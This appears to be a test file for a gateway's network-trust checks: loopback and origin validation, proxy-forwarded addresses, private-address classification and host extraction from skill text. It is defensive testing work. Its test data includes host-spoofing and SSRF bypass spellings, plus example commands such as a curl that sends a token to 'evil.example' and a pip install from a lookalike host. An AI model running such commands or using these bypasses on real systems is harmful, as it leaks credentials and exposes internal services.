import type { IncomingMessage } from 'node:http';
import fc from 'fast-check';
import {
  AddressSet,
  isLoopbackAddress,
  parseAddress,
  privateAddressReason,
  sourceOf,
} from '../../src/common/net/address';
import { isLocalHost, isPrivateName, isWithin, matchesHost, parseHost } from '../../src/common/net/host';
import { isSameOrigin, parseOrigin } from '../../src/common/net/origin';
import { type NetFacts, refuseOrigin, requestSource } from '../../src/common/net/request-source';
import { kindOfSource } from '../../src/skills/install/fetch-source';
import { hostsIn, isBareAddress } from '../../src/skills/trust/addresses-in';

const never = (entry: string): never => {
  throw new Error(entry);
};
const facts = (more: Partial<NetFacts> & { trusted?: string[] } = {}): NetFacts => ({
  proxies: AddressSet.of(more.trusted ?? [], never),
  allowedOrigins: [],
  machine: 'nest',
  isOnTailnet: false,
  ...more,
});
const request = (headers: Record<string, string>, peer = '127.0.0.1'): IncomingMessage =>
  ({ headers, socket: { remoteAddress: peer } }) as unknown as IncomingMessage;

/** Spellings that begin, end or look like this machine, and are not. */
const FOREIGN = [
  ...['127.evil.example', '127.0.0.1.evil.example', '[::1].evil.example'],
  ...['[::1]:80.evil.example', '127.0.0.1:33789:evil', '127.0.0.1@evil.example'],
  'evil.example#127.0.0.1',
  'evil.example\\@127.0.0.1',
  '127.0.0.1/.evil.example',
  '127.0.0.1\t.evil.example',
  'localhost.evil.example',
  ...['a.localhost', 'localhost.localdomain', 'evil.ts.net', 'nest.evil.ts.net', 'nest.ts.net'],
  '[::1',
  '::1',
  '::1]',
  '[127.0.0.1]',
  '[::1%25eth0]',
  '127.0.0.1..',
  'xn--lcalhost-54a',
  ...[
    'localhost%00.evil',
    'LOCALHOST%2eevil.example',
    'localhost:80:80',
    'localhost:99999',
    'localhost:-1',
    'user@localhost',
  ],
  ...['localhost,evil.example', '127.0.0.1,evil.example', 'localhost?x', 'localhost;', '127.0.0.256'],
  '',
  ' ',
  ':80',
];
/** The same machine, however it is spelt: browsers read all of these so. */
const OURS = [
  'localhost',
  'LOCALHOST:18789',
  'localhost.',
  '127.0.0.1',
  '127.0.0.1.',
  '127.255.255.254:1',
  '127.1',
  '0x7f000001',
  '2130706433',
  '0177.0.0.1',
  '%31%32%37.0.0.1',
  '[::1]:18789',
  '[0:0:0:0:0:0:0:1]',
  '[::ffff:127.0.0.1]',
  '[::FFFF:7f00:1]:80',
];

describe('what is this machine', () => {
  it.each(FOREIGN)('%j is not', (host) => {
    const parsed = parseHost(host);
    expect(parsed !== undefined && isLocalHost(parsed)).toBe(false);
    expect(requestSource(request({ host }), facts()).local).toBe(false);
    // Of these only a bare address is one, with or without a zone; a Host it is not.
    expect(isLoopbackAddress(host)).toBe(host === '::1' || host === '[::1%25eth0]');
  });

  it.each(['0.0.0.0', '0', '[::]', '[::127.0.0.1]', '[::ffff:0:127.0.0.1]', '127.0.0.1.1', '126.255.255.255'])(
    '%j, an address of another kind, is not',
    (host) => expect(requestSource(request({ host }), facts()).local).toBe(false),
  );

  it.each(OURS)('%j is', (host) => {
    expect(isLocalHost(parseHost(host) ?? never(host))).toBe(true);
    expect(requestSource(request({ host }), facts()).local).toBe(true);
    expect(requestSource(request({ host }, '::ffff:127.0.0.1'), facts()).local).toBe(true);
    expect(requestSource(request({ host }, '192.168.1.7'), facts()).local).toBe(false);
  });

  it('is not one who comes by a page of another name, or as only proxies speak', () => {
    const isLocal = (headers: Record<string, string>, httpVersion = '1.1'): boolean =>
      requestSource({ ...request({ host: 'localhost', ...headers }), httpVersion } as IncomingMessage, facts()).local;
    expect(isLocal({})).toBe(true);
    for (const origin of ['http://localhost:5173', 'http://127.0.0.1', 'http://[::1]:1'])
      expect(isLocal({ origin })).toBe(true);
    for (const host of FOREIGN) expect(isLocal({ origin: `https://${host}` })).toBe(false);
    for (const origin of ['null', '', 'file://', 'chrome-extension://abc']) expect(isLocal({ origin })).toBe(false);
    expect(isLocal({}, '1.0')).toBe(false);
  });

  it('a name never is, whatever it is made of', () => {
    const label = fc.stringMatching(/^[a-z0-9]([a-z0-9-]{0,8}[a-z0-9])?$/);
    const start = fc.constantFrom('127', '127.0', '127.0.0', '127.0.0.1', 'localhost', '0x7f', '::1', '0', 'xn--1');
    const end = fc.constantFrom('com', 'example', 'local', 'localhost', 'net', 'ts.net', 'internal');
    fc.assert(
      fc.property(start, label, end, fc.constantFrom('', '.', ':80'), (front, middle, back, tail) => {
        const text = `${front}.${middle}.${back}${tail}`;
        const host = parseHost(text);
        expect(host !== undefined && isLocalHost(host)).toBe(false);
        expect(parseAddress(text)).toBeUndefined();
      }),
    );
  });

  it('an address is judged by what it means, in every spelling', () => {
    const spell = (bytes: number[], how: number): string => {
      const [a = 0, b = 0, c = 0, d = 0] = bytes;
      const whole = ((a * 256 + b) * 256 + c) * 256 + d;
      const hex = (n: number): string => n.toString(16);
      return [
        `${a}.${b}.${c}.${d}`,
        String(whole),
        `0x${hex(whole)}`,
        `0${a.toString(8)}.0x${hex(b)}.${c}.${d}`,
        `${a}.${b}.${c * 256 + d}`,
        `[::ffff:${a}.${b}.${c}.${d}]`,
        `[::FFFF:${hex(a * 256 + b)}:${hex(c * 256 + d)}]`,
        `%${hex(`${a}`.charCodeAt(0))}${`${a}`.slice(1)}.${b}.${c}.${d}.`,
      ][how] as string;
    };
    const bytes = fc.tuple(
      fc.constantFrom(10, 100, 126, 127, 128, 192),
      ...Array(3).fill(fc.integer({ min: 0, max: 255 })),
    );
    fc.assert(
      fc.property(bytes as fc.Arbitrary<number[]>, fc.integer({ min: 0, max: 7 }), (parts, how) => {
        const host = parseHost(spell(parts, how)) ?? never(spell(parts, how));
        expect(host.name).toBe(parts.join('.'));
        expect(isLocalHost(host)).toBe(parts[0] === 127);
        expect(matchesHost(spell(parts, how), [parts.join('.')])).toBe(true);
      }),
    );
  });

  it('addresses without a network of their own are no way around', () => {
    for (const inner of ['127.0.0.1', '10.0.0.1', '169.254.169.254'])
      for (const text of [inner, `::ffff:${inner}`, `[::ffff:${inner}]`, `::${inner}`, `64:ff9b::${inner}`])
        expect(privateAddressReason(text)).toBeDefined();
    for (const text of [
      ...['fe80::1%eth0', '168.63.129.16', '::ffff:168.63.129.16', '169.254.170.2', '100.100.100.200', '192.0.0.192'],
      ...['198.18.0.1', '192.88.99.1', '240.0.0.1', '255.255.255.255', '0.1.2.3', '192.31.196.1', '192.52.193.1'],
      ...['fd00:ec2::254', '2001:0:7f00:1::', '64:ff9b:1::7f00:1', '::ffff:0:7f00:1', '2001:470::5efe:7f00:1'],
      ...['fec0::1', '100::1', '5f00::1', '3fff::1', '2001:2::1', '2001:20::1', '2620:4f:8000::1', 'ff02::1'],
    ])
      expect([text, privateAddressReason(text)]).toEqual([text, expect.any(String)]);
    expect(privateAddressReason('168.63.129.17')).toBeUndefined();
    expect(privateAddressReason('2606:4700::1111')).toBeUndefined();
    expect(privateAddressReason('1.1.1.1')).toBeUndefined();
    for (const name of ['a.localhost', 'LOCALHOST.', 'x.internal', 'nas.lan', 'router.home.arpa'])
      expect(isPrivateName(name)).toBe(true);
    for (const name of ['localhost.example', 'internal.example', 'plan.example', 'mylan'])
      expect(isPrivateName(name)).toBe(false);
  });
});

describe('web origins', () => {
  const LISTEN = { host: '127.0.0.1:18789' };

  it('of other sites are refused in every spelling', () => {
    const page = fc.constantFrom(...FOREIGN.filter((host) => host.trim() !== ''));
    fc.assert(
      fc.property(page, fc.constantFrom('http://', 'https://', 'HTTP://', 'ws://', ''), (host, scheme) => {
        const origin = `${scheme}${host}`;
        expect(refuseOrigin(request({ ...LISTEN, origin }), facts())).toBeDefined();
        // And when a foreign name was made to resolve to this machine.
        expect(refuseOrigin(request({ host, origin }), facts())).toBeDefined();
      }),
    );
    for (const origin of [
      'null',
      'file://',
      'chrome-extension://abc',
      'http://127.0.0.1:1@evil.example',
      'http://@127.0.0.1',
      'http://127.0.0.1/x',
    ])
      expect(refuseOrigin(request({ ...LISTEN, origin }), facts())).toBeDefined();
  });

  it('of our own page, and of listed ones, are let in', () => {
    const let_in = (headers: Record<string, string>, more: Parameters<typeof facts>[0] = {}): void =>
      expect(refuseOrigin(request(headers), facts(more))).toBeUndefined();
    let_in({ host: '127.0.0.1:18789' });
    let_in({ host: '127.0.0.1:18789', origin: 'http://127.0.0.1:18789' });
    let_in({ host: 'localhost:18789', origin: 'http://localhost:5173' });
    let_in({ host: '[::1]:18789', origin: 'http://[::1]:18789' });
    let_in({ host: '192.168.1.4:18789', origin: 'http://192.168.1.4:18789' });
    let_in({ host: 'NEST.local:18789', origin: 'http://nest.local:18789' });
    let_in({ host: 'nest', origin: 'https://nest' });
    let_in(
      { host: 'gw.example.org', origin: 'https://gw.example.org' },
      { allowedOrigins: ['https://gw.example.org/'] },
    );
    let_in({ host: 'nest.tail1234.ts.net', origin: 'https://nest.tail1234.ts.net' }, { isOnTailnet: true });
  });

  it('of a tailnet only while Tailscale serves us, and only under our own name', () => {
    const asked = (name: string, isOnTailnet: boolean): string | undefined =>
      refuseOrigin(request({ host: name, origin: `https://${name}` }), facts({ isOnTailnet }));
    expect(asked('nest.tail1234.ts.net', false)).toBeDefined();
    for (const name of [
      'other.tail1234.ts.net',
      'evil.ts.net',
      'nest.ts.net',
      'nest.a.b.ts.net',
      'nest.tail1.ts.net.evil.example',
    ])
      expect(asked(name, true)).toBeDefined();
  });

  it('are compared as origins, not as text', () => {
    const origin = parseOrigin('https://Gw.Example.org:443') ?? never('origin');
    expect(isSameOrigin('https://gw.example.org', origin)).toBe(true);
    for (const entry of [
      'https://gw.example.org.evil.example',
      'http://gw.example.org',
      'https://gw.example.org:444',
      '*',
      'gw.example.org',
    ])
      expect(isSameOrigin(entry, origin)).toBe(false);
  });
});

describe('what proxies forward', () => {
  const trusted = ['127.0.0.1', '10.0.0.0/8', '::1'];
  const addressBehind = (headers: Record<string, string>, peer = '127.0.0.1', list = trusted) =>
    requestSource(request({ host: 'localhost', ...headers }, peer), facts({ trusted: list }));

  it.each<[string, Record<string, string>, string]>([
    ['what the client wrote itself', { 'x-forwarded-for': '127.0.0.1, 203.0.113.7' }, '203.0.113.7'],
    ['a longer chain of it', { 'x-forwarded-for': '127.0.0.1, 8.8.8.8, 203.0.113.7, 10.1.2.3' }, '203.0.113.7'],
    ['with a port', { 'x-forwarded-for': '127.0.0.1, 203.0.113.7:4711' }, '203.0.113.7'],
    [
      'as the standard has it',
      { forwarded: 'for=127.0.0.1;by=10.0.0.1, for="203.0.113.7:80";proto=https' },
      '203.0.113.7',
    ],
    ['IPv6 in quotes', { forwarded: 'for="[2001:db8::7]:4711"' }, '2001:db8::7'],
    ['a comma in quotes', { forwarded: 'by="x, for=127.0.0.1";for=203.0.113.7' }, '203.0.113.7'],
    ['both, of one mind', { 'x-forwarded-for': '203.0.113.7', forwarded: 'for=203.0.113.7' }, '203.0.113.7'],
    // The client has written one of the two: neither is believed.
    ['both, of two minds', { 'x-forwarded-for': '8.8.8.8', forwarded: 'for=203.0.113.7' }, '127.0.0.1'],
    ['nothing readable', { 'x-forwarded-for': '203.0.113.7, unknown' }, '127.0.0.1'],
    ['a number that could be one', { 'x-forwarded-for': '2130706433' }, '127.0.0.1'],
    ['two in one element', { forwarded: 'for=1.2.3.4;for=203.0.113.7' }, '127.0.0.1'],
    ['proxies only', { 'x-forwarded-for': '127.0.0.1, 10.1.2.3' }, '127.0.0.1'],
    ['a single header', { 'x-real-ip': '203.0.113.7' }, '203.0.113.7'],
  ])('%s', (_, headers, address) => {
    expect(addressBehind(headers)).toMatchObject({ address, local: false });
  });

  it('counts from listed proxies only, and nobody behind one is this machine', () => {
    expect(addressBehind({ 'x-forwarded-for': '8.8.8.8' }, '203.0.113.99').address).toBe('203.0.113.99');
    expect(addressBehind({ 'x-forwarded-for': '8.8.8.8' }, '127.0.0.1', [])).toMatchObject({
      address: '127.0.0.1',
      local: false,
    });
    for (const name of [
      'x-forwarded-for',
      'forwarded',
      'x-real-ip',
      'x-forwarded-host',
      'x-forwarded-proto',
      'via',
      'cf-connecting-ip',
      ...['x-forwarded', 'forwarded-for', 'x-forwarded-scheme', 'x-original-forwarded-for', 'x-envoy-external-address'],
      ...['x-azure-clientip', 'x-vercel-forwarded-for', 'cf-ray', 'cdn-loop', 'tailscale-user-name'],
    ])
      for (const value of ['127.0.0.1', 'for=127.0.0.1', '::1', '', 'localhost'])
        for (const list of [trusted, []]) expect(addressBehind({ [name]: value }, '127.0.0.1', list).local).toBe(false);
  });

  it('is never chosen by the client, however many hops it makes up', () => {
    const hop = fc.oneof(
      fc.ipV4(),
      fc.ipV6(),
      fc.constantFrom('127.0.0.1', '10.0.0.1', 'unknown', '_x', '', '"', '203.0.113.7'),
    );
    fc.assert(
      fc.property(
        fc.array(hop, { maxLength: 6 }),
        fc.array(fc.constantFrom('10.0.0.1', '10.9.9.9'), { maxLength: 2 }),
        (made, proxies) => {
          const chain = [...made, '198.51.100.4', ...proxies].join(', ');
          expect(addressBehind({ 'x-forwarded-for': chain })).toEqual({
            address: '198.51.100.4',
            source: '198.51.100.4',
            local: false,
          });
        },
      ),
    );
  });

  it('the host of a page is told by the nearest listed proxy', () => {
    const asked = (forwarded: string, list: string[]): string | undefined =>
      refuseOrigin(
        request({ host: 'backend.example', 'x-forwarded-host': forwarded, origin: 'https://nest.local' }),
        facts({ trusted: list }),
      );
    expect(asked('evil.example, nest.local', trusted)).toBeUndefined();
    expect(asked('nest.local, evil.example', trusted)).toBeDefined();
    expect(asked('nest.local', [])).toBeDefined();
  });

  it('takes ranges, and names what is none', () => {
    const list = AddressSet.of(['172.16.0.0/12', 'fd00::/8', '::ffff:192.0.2.1'], never);
    for (const inside of ['172.20.1.1', '::ffff:172.31.0.1', 'fd12::1', '192.0.2.1'])
      expect(list.has(parseAddress(inside) ?? never(inside))).toBe(true);
    for (const outside of ['172.32.0.1', 'fe00::1', '192.0.2.2'])
      expect(list.has(parseAddress(outside) ?? never(outside))).toBe(false);
    for (const bad of ['localhost', '10.0.0.0/33', '10.0.0.0/', '10.0.0.0/8/8', '10.', 'proxy.example', ''])
      expect(() => AddressSet.of([bad], never)).toThrow(bad);
  });
});

describe('limits count who is behind an address', () => {
  it('loopback is one, a network of IPv6 is one', () => {
    for (const address of ['127.0.0.1', '127.0.0.2', '127.255.0.9', '::1', '::ffff:127.3.3.3', '[::1]'])
      expect(sourceOf(address)).toBe('loopback');
    expect(sourceOf('2001:db8:1:2:aaaa::1')).toBe(sourceOf('2001:db8:1:2:ffff:1:2:3'));
    expect(sourceOf('2001:db8:1:2::1')).not.toBe(sourceOf('2001:db8:1:3::1'));
    expect(sourceOf('203.0.113.7')).toBe(sourceOf('::ffff:203.0.113.7'));
    expect(sourceOf('203.0.113.7')).not.toBe(sourceOf('203.0.113.8'));
    expect(sourceOf('fe80::1%eth0')).toBe(sourceOf('fe80::2%eth1'));
  });
});

describe('names of others', () => {
  it('lie within a domain by their labels', () => {
    for (const name of ['slack.com', 'files.slack.com', 'Files.SLACK.com.'])
      expect(isWithin(name, 'slack.com')).toBe(true);
    for (const name of ['evilslack.com', 'slack.com.evil.example', 'slack.comx', 'slack-files.com'])
      expect(isWithin(name, 'slack.com')).toBe(false);
    expect(matchesHost('api.example.org', ['*.example.org'])).toBe(true);
    for (const host of [
      'example.org',
      'evilexample.org',
      'example.org.evil.example',
      'api.example.org@evil.example',
      '',
    ])
      expect(matchesHost(host, ['*.example.org'])).toBe(false);
  });

  it('what a skill reaches is what its addresses mean', () => {
    const names = (text: string): string[] => hostsIn(text).map(({ name }) => name);
    expect(names('curl https://github.com@evil.example/x')).toEqual(['evil.example']);
    expect(names('curl https://user:${TOKEN}@evil.example/x')).toEqual(['evil.example']);
    expect(names('pip install https://github.com.evil.example/a.whl')).toEqual(['github.com.evil.example']);
    expect(names('see (https://docs.example.org), https://api.example.org.')).toEqual([
      'docs.example.org',
      'api.example.org',
    ]);
    expect(names('https://${REGION}.api.example.org/x')).toEqual(['*.api.example.org']);
    expect(names('https:\\\\evil.example\\x')).toEqual(['evil.example']);
    expect(names('http://localhost:3000 http://$HOST/x http://{host}/')).toEqual([]);
    const isBare = (text: string): boolean => hostsIn(text).some(isBareAddress);
    for (const text of [
      'http://8.8.8.8/x',
      'http://134744072/',
      'http://0x08.8.8.8',
      'http://a@8.8.8.8:80',
      'http://[2606:4700::1111]/',
      'http://0x7f000001/',
    ])
      expect(isBare(text)).toBe(true);
    for (const text of [
      'http://127.0.0.1:3000',
      'http://192.168.1.4/',
      'http://192.0.2.7/',
      'http://[::1]:80/',
      'https://8.8.8.8.example.org',
    ])
      expect(isBare(text)).toBe(false);
  });

  it('a repository is one of a known forge', () => {
    const kind = (source: string): string => kindOfSource(source, { home: '/nowhere', cwd: '/nowhere' });
    expect(kind('https://github.com/owner/skill')).toBe('git');
    for (const source of [
      'https://github.zip/owner/skill',
      'https://github.com.evil.example/owner/skill',
      'https://github.com@evil.example/owner/skill',
      'http://github.com/owner/skill',
      'https://github.com/owner',
    ])
      expect(() => kind(source)).toThrow(/neither an archive/);
  });
});
